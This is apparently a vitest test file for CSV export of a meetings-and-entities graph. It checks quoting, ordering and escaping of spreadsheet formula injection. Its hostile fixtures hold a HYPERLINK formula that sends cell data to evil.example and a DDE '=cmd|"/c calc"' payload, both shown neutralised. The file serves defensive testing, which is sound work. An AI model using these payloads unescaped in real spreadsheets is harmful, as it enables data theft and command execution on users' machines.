import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import smallGraph from '../app/fixtures/small-graph.json';
import { parseGraph, type GraphDocument } from '../model';
import { ENTITY_COLUMNS, MEETING_COLUMNS, neutraliseFormula, toEntitiesCsv, toMeetingsCsv, wellFormed } from './csv';
import { HOSTILE_NAME, hostileGraph, reversed } from './fixtures/graphs';

function loadSmall(): GraphDocument {
  const result = parseGraph(smallGraph);
  if (!result.ok) throw new Error(result.errors.join('; '));
  return result.graph;
}

function rows(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true, record_delimiter: '\r\n' });
}

describe('toMeetingsCsv', () => {
  it('has the documented header and one row per meeting, in id order', () => {
    const small = loadSmall();
    const csv = toMeetingsCsv(small);
    expect(csv.split('\r\n')[0]).toBe(MEETING_COLUMNS.join(','));
    const records = rows(csv);
    expect(records).toHaveLength(small.meetings.length);
    expect(records.map((r) => r.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
  });

  it('names participants, joins countries and takes the first source', () => {
    const summit = rows(toMeetingsCsv(loadSmall())).find((r) => r.id === 'm-5');
    expect(summit).toEqual({
      id: 'm-5',
      date: '2024-05-10',
      kind: 'summit',
      participants: 'Xi Jinping; John Dube; Luc Martin; BRICS',
      countries: 'CHN; FRA; INT; ZAF',
      location: 'Johannesburg',
      quote: 'Xi, Dube and Martin attended the BRICS summit.',
      article: 'Fixture article',
      file: 'fixture.txt',
      sources: '1',
      corrected: '',
    });
  });

  it('sorts ids numerically where they hold numbers (m-2 before m-10)', () => {
    expect(rows(toMeetingsCsv(hostileGraph())).map((r) => r.id)).toEqual(['m-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-10']);
  });

  it('quotes commas, quotes and line breaks per RFC 4180 so they round-trip', () => {
    const csv = toMeetingsCsv(hostileGraph());
    expect(csv.endsWith('\r\n')).toBe(true);
    const talks = rows(csv).find((r) => r.id === 'm-2')!;
    expect(talks.quote).toBe('He said:\n"We talked, at length."');
    expect(talks.sources).toBe('2');
    expect(talks.participants).toBe(`Bob, Jr.\u0007; ${HOSTILE_NAME}`);
    expect(rows(csv).find((r) => r.id === 'm-4')!.location).toBe('Paris & <Lyon>');
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    const records = rows(toMeetingsCsv(hostileGraph()));
    const talks = records.find((r) => r.id === 'm-2')!;
    expect(talks.location).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(talks.article).toBe(`'-Breaking, "live"`);
    expect(records.find((r) => r.id === 'm-4')!.participants).toBe(`'+Carol Org; Bob, Jr.\u0007; ${HOSTILE_NAME}`);
    expect(records.find((r) => r.id === 'm-6')!.participants).toBe(`'@Daveland\n  Republic`);
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('is deterministic: input order does not change a byte', () => {
    expect(toMeetingsCsv(reversed(hostileGraph()))).toBe(toMeetingsCsv(hostileGraph()));
  });
});

describe('toEntitiesCsv', () => {
  it('has one row per entity in id order with its meeting count', () => {
    const records = rows(toEntitiesCsv(hostileGraph()));
    expect(Object.keys(records[0]!)).toEqual([...ENTITY_COLUMNS]);
    expect(records.map((r) => [r.id, r.meetings])).toEqual([
      ['country:DAV', '2'],
      ['organisation:carol', '2'],
      ['person:bob', '4'],
      ['person:hostile', '4'],
    ]);
  });

  it('round-trips the hostile name and neutralises formula-like names, aliases and roles', () => {
    const records = rows(toEntitiesCsv(hostileGraph()));
    const hostile = records.find((r) => r.id === 'person:hostile')!;
    expect(hostile.name).toBe(HOSTILE_NAME);
    expect(hostile.role).toBe(`'=cmd|"/c calc"!A1`);
    expect(hostile.aliases).toBe("O'Brien; Ctrl\u0001Char");
    expect(records.find((r) => r.id === 'country:DAV')!).toMatchObject({ name: "'@Daveland\n  Republic", aliases: "'-D-" });
    expect(records.find((r) => r.id === 'organisation:carol')!).toMatchObject({ name: "'+Carol Org", country: '', role: '' });
  });

  it('has one row per entity on the small fixture', () => {
    const small = loadSmall();
    expect(rows(toEntitiesCsv(small))).toHaveLength(small.entities.length);
  });
});

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['Wang Yi', 'Wang Yi'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });
});

describe('wellFormed', () => {
  it('replaces lone surrogates with U+FFFD and keeps pairs', () => {
    expect(wellFormed('a\uD800b\uDC00c 🇨🇾')).toBe('a\uFFFDb\uFFFDc 🇨🇾');
  });
});
